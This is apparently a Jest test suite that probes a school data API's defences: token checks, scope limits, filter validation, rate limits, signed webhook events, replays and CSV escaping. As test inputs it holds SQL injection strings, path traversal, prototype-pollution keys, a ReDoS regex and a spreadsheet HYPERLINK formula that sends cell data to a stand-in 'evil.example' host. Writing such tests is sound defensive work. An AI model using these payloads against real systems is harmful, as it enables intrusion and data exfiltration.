/** The data API over real HTTP, by whoever means no good: nothing comes out, nothing comes twice. */
import { createHmac } from 'node:crypto';
import { controlRoutes } from '../../emulator/control/api';
import { listen } from '../../emulator/control/router';
import { FIRST_WORKBOOK } from '../../emulator/machine/owner';
import { deploymentOf } from '../../emulator/machine/web-app';
import { tempFolder } from '../emulator/kit';
import { openSchool, type School } from './_school';
import { validatorOf } from './_validator';

type Said = Record<string, any>;
const TYPE = (kind: string): string => `urn:homeroom:api:${kind}`;
/** Every answer that is a refusal has all of these. */
const problem = (kind: string, status: number): Said => ({
  ...{ type: TYPE(kind), status },
  ...{ title: expect.any(String) as string, detail: expect.stringMatching(/\w/) as string },
});

let school: School;
let address: string;
let close: () => unknown;
beforeAll(async () => {
  school = await openSchool();
  const server = await listen(
    controlRoutes(school.machine, { page: tempFolder(), district: null }),
    0,
  );
  address = `http://127.0.0.1:${server.port}/macros/s/${deploymentOf(FIRST_WORKBOOK)}/exec`;
  close = server.close;
}, 120_000);
afterAll(async () => {
  await close();
  await school.close();
});

const read = async (query: Record<string, string>): Promise<string> =>
  (await fetch(`${address}?${new URLSearchParams(query).toString()}`)).text();
const ask = async (query: Record<string, string>): Promise<Said> =>
  JSON.parse(await read(query)) as Said;
const post = async (body: string | Buffer, query = '', type = 'application/json') => {
  const answer = await fetch(address + query, {
    method: 'POST',
    body: typeof body === 'string' ? body : new Uint8Array(body),
    headers: { 'content-type': type },
  });
  return { status: answer.status, text: await answer.text() };
};
/** Many at a time, as many as connections there are. */
const inTurns = async <T>(count: number, lanes: number, one: (i: number) => Promise<T>) => {
  const found: T[] = [];
  let next = 0;
  const lane = async (): Promise<void> => {
    while (next < count) found.push(await one(next++));
  };
  await Promise.all(Array.from({ length: lanes }, lane));
  return found;
};
const makeToken = async (more: object = {}): Promise<string> =>
  (
    await school.command('makeToken', {
      name: 'Misused',
      scope: { schools: { fields: ['school_id', 'school'] } },
      ...more,
    })
  ).text;

describe('tokens', () => {
  it('wrong, cut off, foreign, in another place or twice: one answer, and no row', async () => {
    const good = school.token;
    const wrong = [
      'x',
      '',
      ' ',
      'hr_',
      `${good} `,
      good.slice(0, -1),
      good.slice(0, 15),
      `${good}0`,
      good.toUpperCase(),
      good.replace(/.$/, (last) => (last === '0' ? '1' : '0')),
      `hr_${'0'.repeat(12)}_${good.slice(-48)}`,
      "' OR '1'='1",
      '../token/x',
      '__proto__',
    ];
    for (const token of wrong) {
      const text = await read({ token, dataset: 'schools' });
      expect(text).not.toContain('Elementary');
      const kind = token === '' ? 'no-token' : 'unknown-token';
      expect(JSON.parse(text)).toEqual(problem(kind, 401));
    }
    const twice = await fetch(`${address}?token=${good}&token=${good}&dataset=schools`);
    expect(await twice.json()).toEqual(problem('no-token', 401));
    const header = await fetch(`${address}?dataset=schools`, {
      headers: { authorization: `Bearer ${good}` },
    });
    expect(await header.json()).toEqual(problem('no-token', 401));
  });

  it('expired or revoked: no row from that moment on', async () => {
    const expires = new Date(school.machine.now() + 86_400_000).toISOString().slice(0, 10);
    const token = await makeToken({ expires });
    expect((await ask({ token, dataset: 'schools' }))['rows']).toHaveLength(4);
    const { tokens } = await school.command('share');
    await school.command('revokeToken', tokens.find((one) => one.expires === expires)!.id);
    expect(await ask({ token, dataset: 'schools' })).toEqual(problem('unknown-token', 401));
  });

  it('guessed at by the hundred: counted, answered shortly, and whoever has a good one is answered', async () => {
    const { machine } = school;
    const before = (await school.command('share')).wrong?.count ?? 0;
    const guess = (i: number): string =>
      `hr_${String(i).padStart(12, '0')}_${String(i).padStart(48, 'a')}`;
    const spent = (): number =>
      machine.quotas().used[`properties read/write|${machine.settings.user}`] ?? 0;
    const atFirst = spent();
    const answers = await inTurns(300, 4, (i) => ask({ token: guess(i), dataset: 'schools' }));
    // Each of the first hundred costs a look at the records; the others cost none.
    expect(spent() - atFirst).toBeLessThan(130);
    const kinds = answers.map(({ type }) => String(type));
    expect(new Set(kinds)).toEqual(new Set([TYPE('unknown-token'), TYPE('too-many-wrong')]));
    expect(kinds.filter((kind) => kind === TYPE('too-many-wrong')).length).toBeGreaterThan(100);
    expect((await ask({ token: guess(1) }))['status']).toBe(429);
    // Neither who was there before nor who comes anew is kept out, and a wrong secret stays wrong.
    const fresh = await makeToken();
    for (const token of [school.token, fresh])
      expect((await ask({ token, dataset: 'schools' }))['rows']).toHaveLength(4);
    const close = fresh.replace(/.$/, (last) => (last === '0' ? '1' : '0'));
    expect(await ask({ token: close, dataset: 'schools' })).toEqual(problem('unknown-token', 401));
    const { wrong } = await school.command('share');
    expect(wrong!.count - before).toBeGreaterThanOrEqual(200);
    expect(wrong!.count - before).toBeLessThanOrEqual(302);
    expect(await school.command('supportBundle', null)).toContain(`"wrongToday":${wrong!.count}`);
    // Ten minutes later a wrong one is only wrong again.
    await machine.advance(11 * 60_000);
    expect(await ask({ token: guess(2) })).toEqual(problem('unknown-token', 401));
    expect((await school.command('share')).wrong!.count).toBeGreaterThan(wrong!.count);
  }, 60_000);
});

describe('what a token reaches', () => {
  it('no field beyond it, by whatever way it is asked', async () => {
    const token = await makeToken();
    const base = { token, dataset: 'schools' };
    for (const beyond of [
      { fields: 'category' },
      { fields: 'school,category' },
      { fields: 'school, category' },
      { 'filter.category': 'High School' },
      { 'filter.category.not.empty': '' },
      { 'filter.site.matches': '.*' },
    ] as Record<string, string>[]) {
      const found = await ask({ ...base, ...beyond });
      expect(found).toEqual(problem('out-of-scope', 403));
    }
    for (const odd of [
      { fields: '*' },
      { fields: '__proto__' },
      { fields: 'constructor' },
      { fields: 'school as category' },
      { 'filter.__proto__': 'x' },
    ] as Record<string, string>[])
      expect(await ask({ ...base, ...odd })).toEqual(problem('out-of-scope', 403));
    expect(Object.keys((await ask({ ...base, schema: '' }))['properties'] as object)).toEqual([
      ...['school_id', 'school'],
    ]);
    const found = await ask({ ...base, schema: '' });
    const isRecord = validatorOf(found);
    for (const row of (await ask(base))['rows'] as Said[]) expect(isRecord(row)).toBe(true);
    expect(isRecord({ school_id: '1', school: 'x', category: 'y' })).toBe(false);
    const csv = await read({ ...base, format: 'csv' });
    expect(csv.split('\r\n')[0]).toBe('school_id,school');
    for (const dataset of ['students', 'student_enrollment', 'never', '__proto__', 'schools ', ''])
      expect(await ask({ token, dataset })).toEqual(problem('unknown-dataset', 404));
  });

  it('no row beyond it, whatever filters say', async () => {
    const token = await makeToken({
      scope: {
        schools: {
          where: [[{ field: 'category', operator: 'equals', values: ['High School'] }]],
        },
      },
    });
    const names = async (more: Record<string, string> = {}) => {
      const found = await ask({ token, dataset: 'schools', ...more });
      return ((found['rows'] ?? []) as Said[]).map(({ category }) => category as string);
    };
    const own = await names();
    expect(own.length).toBeGreaterThan(0);
    for (const more of [
      { 'filter.category': 'Elementary School' },
      { 'filter.category.not': 'High School' },
      { 'filter.category': "x' OR '1'='1" },
      { 'filter.category.matches': '.*' },
      { 'filter.category.contains': '' },
      { 'filter.school': "' UNION SELECT * FROM students --" },
      { 'filter.school.matches': '(a+)+$' },
      { 'filter.school.between': 'a' },
      { limit: '50000' },
      { asOf: '1' },
    ] as Record<string, string>[])
      for (const category of await names(more)) expect(category).toBe('High School');
  });

  it('filters are values and nothing else', async () => {
    const base = { token: school.token, dataset: 'schools' };
    for (const [name, value] of [
      ['filter.school.matches', '('],
      ['filter.school.nothing', 'x'],
      ['filter.', 'x'],
      ['filter.school.eq.eq', 'x'],
    ] as const)
      expect(await ask({ ...base, [name]: value })).toMatchObject(problem('bad-filter', 400));
    for (const [name, value] of [
      ['limit', '0'],
      ['limit', '1e9'],
      ['since', '-1'],
      ['asOf', 'yesterday'],
      ['format', 'xml'],
      ['callback', 'alert'],
      ['Fields', 'school'],
    ] as const)
      expect(await ask({ ...base, [name]: value })).toMatchObject(problem('bad-parameter', 400));
    expect(await ask({ ...base, cursor: 'x' })).toMatchObject(problem('cursor-gone', 410));
  });

  it('CSV runs in no spreadsheet, whatever a source has put into it', async () => {
    const evil = `=HYPERLINK("http://evil.example?"&A1,"Click")`;
    const body = JSON.stringify({
      ...{ id: 'evil', at: school.now(), resource: 'schools' },
      rows: [{ id: 'evil', schoolId: 255901998, nameOfInstitution: evil }],
    });
    expect(JSON.parse((await push(body)).text)).toEqual({ accepted: true, event: 'evil' });
    await school.refresh(['schools']);
    const filter = { 'filter.school_id': '255901998', fields: 'school' };
    const csv = await read({ token: school.token, dataset: 'schools', format: 'csv', ...filter });
    expect(csv).toBe(`school\r\n"'${evil.replace(/"/g, '""')}"\r\n`);
    const { rows } = await ask({ token: school.token, dataset: 'schools', ...filter });
    expect(rows).toEqual([{ school: evil }]);
  }, 60_000);
});

describe('a thousand requests', () => {
  it('are counted one by one, whoever comes at the same moment, and no more are answered than may be', async () => {
    const daily = 950;
    const token = await makeToken({ name: 'Thousand', daily });
    const query = { token, dataset: 'schools', fields: 'school', limit: '1' };
    // Whose turn does not come in time is told so, is not counted, and asks again.
    const patient = async (): Promise<Said> => {
      for (let again = 0; ; again++) {
        const answer = await ask(query);
        if (answer['type'] !== TYPE('unavailable') || again === 20) return answer;
      }
    };
    const answers = await inTurns(1_000, 6, patient);
    const good = answers.filter(({ rows }) => rows !== undefined).length;
    const kinds = new Set(answers.flatMap(({ type }) => (type ? [type as string] : [])));
    expect(kinds).toEqual(new Set([TYPE('too-many')]));
    expect({ good, refused: answers.length - good }).toEqual({ good: daily, refused: 50 });
    const { tokens } = await school.command('share');
    const used = tokens.find(({ name }) => name === 'Thousand')!;
    expect(used).toMatchObject({ today: daily, daily });
    expect(used.lastUsed).toMatch(/^20\d\d-/);
  }, 120_000);
});

const push = (
  body: string | Buffer,
  { signature = '', hook = school.connection, key = school.secret, type = 'application/json' } = {},
) => {
  const signed = signature || createHmac('sha256', key).update(body).digest('hex');
  return post(body, `?hook=${encodeURIComponent(hook)}&signature=${signed}`, type);
};

describe('pushed events', () => {
  const event = (id: string, more: object = {}): string =>
    JSON.stringify({
      ...{ id, at: school.now(), resource: 'schools' },
      rows: [{ id, schoolId: 255901900, nameOfInstitution: `School ${id}` }],
      ...more,
    });
  const waiting = async (): Promise<number> =>
    (await school.command('share')).hooks.find(({ on }) => on)!.waiting;

  it('forged or for somebody else: one answer, and nothing waits', async () => {
    const before = await waiting();
    const body = event('forged');
    const other = createHmac('sha256', school.secret).update(event('other')).digest('hex');
    for (const how of [
      { key: 'wrong' },
      { key: '' },
      { signature: other },
      { signature: 'none' },
      { hook: 'nobody' },
      { hook: '../secret/x' },
      { hook: '' },
    ])
      expect(JSON.parse((await push(body, how)).text)).toEqual(problem('unknown-hook', 401));
    expect(JSON.parse((await post(body, `?hook=${school.connection}`)).text)).toEqual(
      problem('unknown-hook', 401),
    );
    // The address alone, opened as a page, says nothing of whom there is.
    expect(await ask({ hook: school.connection })).toEqual(problem('no-token', 401));
    expect(await waiting()).toBe(before);
  });

  it('replayed, at once or later, count once', async () => {
    const before = await waiting();
    const body = event('replayed');
    const answers = await inTurns(12, 6, () => push(body));
    const said = answers.map(({ text }) => JSON.parse(text) as Said);
    expect(said.filter((one) => one['accepted'] && !one['duplicate'])).toHaveLength(1);
    expect(said.filter((one) => !one['accepted'])).toEqual([]);
    expect(await waiting()).toBe(before + 1);
    await school.refresh(['schools']);
    expect(JSON.parse((await push(body)).text)).toMatchObject({ duplicate: true });
    await school.machine.advance(20 * 60_000);
    expect(JSON.parse((await push(body)).text)).toEqual(problem('too-old', 400));
    expect(await waiting()).toBe(0);
    const { rows } = await ask({
      ...{ token: school.token, dataset: 'schools' },
      'filter.school': 'School replayed',
    });
    expect(rows).toHaveLength(1);
  }, 60_000);

  it('no JSON, of another type, too large or too many: said so, and nothing waits', async () => {
    const bad = async (body: string | Buffer, type?: string) =>
      JSON.parse((await push(body, type === undefined ? {} : { type })).text) as Said;
    expect(await bad('{')).toEqual(problem('bad-event', 422));
    expect(await bad('')).toEqual(problem('bad-event', 422));
    expect(await bad(Buffer.from([0xff, 0xfe, 0x00, 0x31]))).toMatchObject({ status: 401 });
    expect(await bad('<event/>', 'text/xml')).toEqual(problem('bad-event', 422));
    expect(await bad(event('x', { resource: 'shoes' }))).toEqual(problem('bad-event', 422));
    const many = Array.from({ length: 5_001 }, (_, n) => ({ id: `m${n}` }));
    expect(await bad(event('many', { rows: many }))).toEqual(problem('bad-event', 422));
    expect(await bad(`"${'x'.repeat(5_000_001)}"`)).toEqual(problem('too-large', 413));
    expect(JSON.parse((await post('{', '')).text)).toEqual(problem('bad-body', 400));
    expect(await waiting()).toBe(0);
    // What a body is said to be is not what it is: a signed event counts under any name.
    expect(await bad(event('plain'), 'text/plain')).toEqual({ accepted: true, event: 'plain' });
    expect(await waiting()).toBe(1);
  }, 60_000);
});
